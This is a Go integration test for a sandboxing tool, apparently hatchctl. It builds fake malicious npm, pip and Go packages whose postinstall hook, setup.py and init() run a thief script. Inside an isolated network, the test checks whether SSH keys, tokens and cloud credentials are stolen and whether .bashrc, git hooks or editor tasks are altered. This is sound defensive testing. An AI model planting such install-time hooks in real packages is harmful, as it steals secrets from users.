package integration

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"encoding/base64"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// theft is a project whose dependency, or own build, is a thief, with what it is
// after.
type theft struct{ *boxed }

func newTheft(t *testing.T) theft {
	t.Helper()
	b := theft{newBoxed(t)}
	for _, d := range []string{".ssh", "registry/npm", "registry/simple/evil", "registry/go/example.com/evil/@v", "registry/index/ev/il", "registry/crates"} {
		must(t, os.MkdirAll(filepath.Join(b.victim(), d), 0o755))
	}
	must(t, os.WriteFile(b.victim()+"/.ssh/id_ed25519", []byte("the-key"), 0o600))
	must(t, os.WriteFile(b.victim()+"/.bashrc", []byte("# mine\n"), 0o644))
	t.Cleanup(func() { must(t, os.RemoveAll(b.victim())) })
	b.npm(t)
	b.pip(t)
	b.golang(t)
	b.cargo(t)
	b.file(t, "thief.sh", b.script(t))
	b.file(t, "Makefile", "all: hello\n\t./hello\n\t@sh thief.sh\nhello: hello.c\n\tcc -o hello hello.c\n")
	b.file(t, "hello.c", "#include <stdio.h>\nint main(void) { puts(\"it works\"); return 0; }\n")
	return b
}

func (b theft) victim() string { return b.dir + "-victim" }

func (b theft) file(t *testing.T, name, text string) {
	t.Helper()
	must(t, os.MkdirAll(filepath.Dir(filepath.Join(b.dir, name)), 0o755))
	must(t, os.WriteFile(filepath.Join(b.dir, name), []byte(text), 0o755))
}

func (b theft) script(t *testing.T) string {
	return strings.NewReplacer("VICTIM", b.victim(), "PROJECT", b.dir).Replace(read(t, "testdata/box/thief.sh"))
}

// tarball packs names and texts, in pairs.
func tarball(t *testing.T, files ...string) []byte {
	t.Helper()
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	w := tar.NewWriter(z)
	for i := 0; i < len(files); i += 2 {
		must(t, w.WriteHeader(&tar.Header{Name: files[i], Mode: 0o644, Size: int64(len(files[i+1])), Format: tar.FormatPAX}))
		_, err := w.Write([]byte(files[i+1]))
		must(t, err)
	}
	must(t, w.Close())
	must(t, z.Close())
	return out.Bytes()
}

const registry = "http://192.0.2.1:8080"

func (b theft) npm(t *testing.T) {
	t.Helper()
	pack := tarball(t, "package/package.json", `{"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "sh thief.sh"}}`,
		"package/thief.sh", b.script(t), "package/index.js", `module.exports = "it works"`)
	sum := sha512.Sum512(pack)
	must(t, os.WriteFile(b.victim()+"/registry/npm/evil-1.0.0.tgz", pack, 0o644))
	must(t, os.WriteFile(b.victim()+"/registry/npm/evil.json", []byte(`{"name": "evil", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {"name": "evil", "version": "1.0.0",
		"hasInstallScript": true, "scripts": {"postinstall": "sh thief.sh"},
		"dist": {"tarball": "`+registry+`/npm/evil-1.0.0.tgz", "integrity": "sha512-`+base64.StdEncoding.EncodeToString(sum[:])+`"}}}}`), 0o644))
	b.file(t, "package.json", `{"name": "shop", "version": "1.0.0", "dependencies": {"evil": "1.0.0"}}`)
}

func (b theft) pip(t *testing.T) {
	t.Helper()
	setup := "import subprocess\nsubprocess.run(['sh', '-c', open('thief.sh').read()])\nfrom setuptools import setup\nsetup(name='evil', version='1.0', py_modules=['evil'])\n"
	pack := tarball(t, "evil-1.0/setup.py", setup, "evil-1.0/thief.sh", b.script(t), "evil-1.0/evil.py", "print('it works')\n",
		"evil-1.0/PKG-INFO", "Metadata-Version: 1.0\nName: evil\nVersion: 1.0\n")
	must(t, os.WriteFile(b.victim()+"/registry/simple/evil/evil-1.0.tar.gz", pack, 0o644))
	must(t, os.WriteFile(b.victim()+"/registry/simple/evil/index.html", []byte(`<a href="evil-1.0.tar.gz">evil-1.0.tar.gz</a>`), 0o644))
}

func (b theft) golang(t *testing.T) {
	t.Helper()
	at := b.victim() + "/registry/go/example.com/evil/@v/"
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for name, text := range map[string]string{
		"go.mod": "module example.com/evil\n", "thief.sh": b.script(t),
		"evil.go": "package evil\n\nimport (\n\t_ \"embed\"\n\t\"os/exec\"\n)\n\n//go:embed thief.sh\nvar thief string\n\nfunc init() { _ = exec.Command(\"sh\", \"-c\", thief).Run() }\n\n// Works is what it is for.\nconst Works = \"it works\"\n",
	} {
		w, err := z.Create("example.com/evil@v1.0.0/" + name)
		must(t, err)
		_, err = w.Write([]byte(text))
		must(t, err)
	}
	must(t, z.Close())
	for name, data := range map[string][]byte{
		"list": []byte("v1.0.0\n"), "v1.0.0.info": []byte(`{"Version": "v1.0.0"}`), "v1.0.0.mod": []byte("module example.com/evil\n"), "v1.0.0.zip": out.Bytes(),
	} {
		must(t, os.WriteFile(at+name, data, 0o644))
	}
	b.file(t, "gopher/go.mod", "module shop\n\ngo 1.21\n\nrequire example.com/evil v1.0.0\n")
	b.file(t, "gopher/main.go", "package main\n\nimport \"example.com/evil\"\n\nfunc main() { println(evil.Works) }\n")
}

// with runs a command in a network of its own, with the server beside it, and
// returns what it printed and what the server collected.
func (b theft) with(t *testing.T, command string) (out, stolen string) {
	t.Helper()
	log := b.victim() + "/log"
	must(t, os.WriteFile(log, nil, 0o644))
	cmd := exec.Command("unshare", "--mount", "--net", "--propagation", "private", "sh", "-c", `
ip link set lo up; ip addr add 192.0.2.1/24 dev lo; ip addr add 169.254.169.254/32 dev lo
python3 "$SERVER" "$VICTIM/registry" "$VICTIM/log" & server=$!
for i in 1 2 3 4 5 6 7 8 9; do python3 -c 'import socket; socket.create_connection(("192.0.2.1", 8080))' 2>/dev/null && break; sleep 0.3; done
(`+command+`)
rm -f background; sleep 3; kill $server`)
	server, err := filepath.Abs("testdata/box/server.py")
	must(t, err)
	cmd.Dir = b.dir
	cmd.Env = append(os.Environ(), "PATH="+filepath.Dir(pinnedRunc(t))+":"+os.Getenv("PATH"), "HATCHDOG_POLICY=", "SERVER="+server,
		"VICTIM="+b.victim(), "HATCHCTL="+tested.hatchctl, "BOXES="+boxDir(), "MY_SECRET=the-token", "npm_config_cache="+b.victim()+"/cache")
	file, err := os.OpenFile(b.victim()+"/out", os.O_CREATE|os.O_TRUNC|os.O_RDWR, 0o644)
	must(t, err)
	defer file.Close()
	cmd.Stdout, cmd.Stderr = file, file
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	timer := time.AfterFunc(4*time.Minute, func() { _ = cmd.Process.Kill() })
	_ = cmd.Wait()
	timer.Stop()
	return read(t, file.Name()), read(t, log)
}

// thefts are the five, as far as they came.
func (b theft) thefts(t *testing.T, stolen string) []string {
	t.Helper()
	var all []string
	for _, what := range []string{"the-key", "the-secret", "the-token", "cloud-credentials", "TCP ", "DNS "} {
		if strings.Contains(stolen, what) {
			all = append(all, what)
		}
	}
	for _, name := range []string{"background", ".vscode/tasks.json", ".git/hooks/post-checkout"} {
		if _, err := os.Stat(filepath.Join(b.dir, name)); err == nil {
			all = append(all, name)
		}
	}
	if strings.Contains(read(t, b.victim()+"/.bashrc"), "evil") {
		all = append(all, ".bashrc")
	}
	return all
}

// Without a box the thief gets all of it: what follows proves something.
func TestThiefOutsideOfABox(t *testing.T) {
	b := newTheft(t)
	out, stolen := b.with(t, "make")
	if got := b.thefts(t, stolen); len(got) != 10 || !strings.Contains(out, "it works") {
		t.Errorf("%d: %v\n%s\n%s", len(got), got, stolen, out)
	}
}

// The work of each tool is done in its preset, and the thief among it gets nothing.
func TestPresetsDoRealWorkAndStopThieves(t *testing.T) {
	pnpm := cached(t, "pnpm-*/node_modules/pnpm")
	cargo, toolchain := rust(t)
	for _, c := range []struct{ preset, command, works string }{
		{"pnpm", `"$HATCHCTL" run "$BOXES" --preset pnpm --rw . --ro ` + pnpm + ` --allow 192.0.2.1:8080/tcp -- sh -c 'node ` + pnpm + `/bin/pnpm.cjs install --registry ` + registry + `/npm/ && node -p "require(\"evil\")"'`, "it works"},
		{"maven", `cd mvn && "$HATCHCTL" run "$BOXES" --preset maven --rw "$PWD/.." --allow 192.0.2.1:8080/tcp -- mvn --settings settings.xml com.example:evil-maven-plugin:1.0:work`, "it works"},
		{"cargo", `cd crate && "$HATCHCTL" run "$BOXES" --preset cargo --rw "$PWD/.." ` + toolchain + ` --env RUSTC=` + cargo + `/rustc --allow 192.0.2.1:8080/tcp -- ` + cargo + `/cargo run --config 'source.crates-io.replace-with="own"' --config 'source.own.registry="sparse+` + registry + `/index/"'`, "it works"},
		{"make", `"$HATCHCTL" run "$BOXES" --preset make --rw . -- make`, "it works"},
		{"npm", `"$HATCHCTL" run "$BOXES" --preset npm --rw . --allow 192.0.2.1:8080/tcp -- sh -c 'npm install --foreground-scripts --registry ` + registry + `/npm/ && node -p "require(\"evil\")"'`, "it works"},
		{"pip", `"$HATCHCTL" run "$BOXES" --preset pip --rw . --allow 192.0.2.1:8080/tcp -- sh -c '/usr/bin/python3 -m pip install --target lib --no-build-isolation --index-url ` + registry + `/simple --trusted-host 192.0.2.1 evil && PYTHONPATH=lib /usr/bin/python3 -m evil'`, "it works"},
		{"go", `cd gopher && "$HATCHCTL" run "$BOXES" --preset go --rw "$PWD/.." --allow 192.0.2.1:8080/tcp --env GOPROXY=` + registry + `/go --env GONOSUMDB=* --env GONOSUMCHECK=1 --env GOFLAGS=-mod=mod -- go run .`, "it works"},
		{"shell", `"$HATCHCTL" run "$BOXES" --preset shell --rw . -- sh -c 'sh thief.sh; git init -q new && cd new && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m first && git log --format="it works"'`, "it works"},
	} {
		t.Run(c.preset, func(t *testing.T) {
			b := newTheft(t)
			if c.preset == "maven" { // its plugin takes a while to compile
				b.maven(t)
			}
			out, stolen := b.with(t, c.command)
			if !strings.Contains(out, c.works) {
				t.Errorf("it does not work:\n%s", out)
			}
			if _, err := os.Stat(b.dir + "/ran"); err != nil {
				t.Errorf("the thief did not run: the test proves nothing\n%s", out)
			}
			if got := b.thefts(t, stolen); len(got) > 0 {
				t.Errorf("stolen: %v\n%s\n%s", got, stolen, out)
			}
		})
	}
}
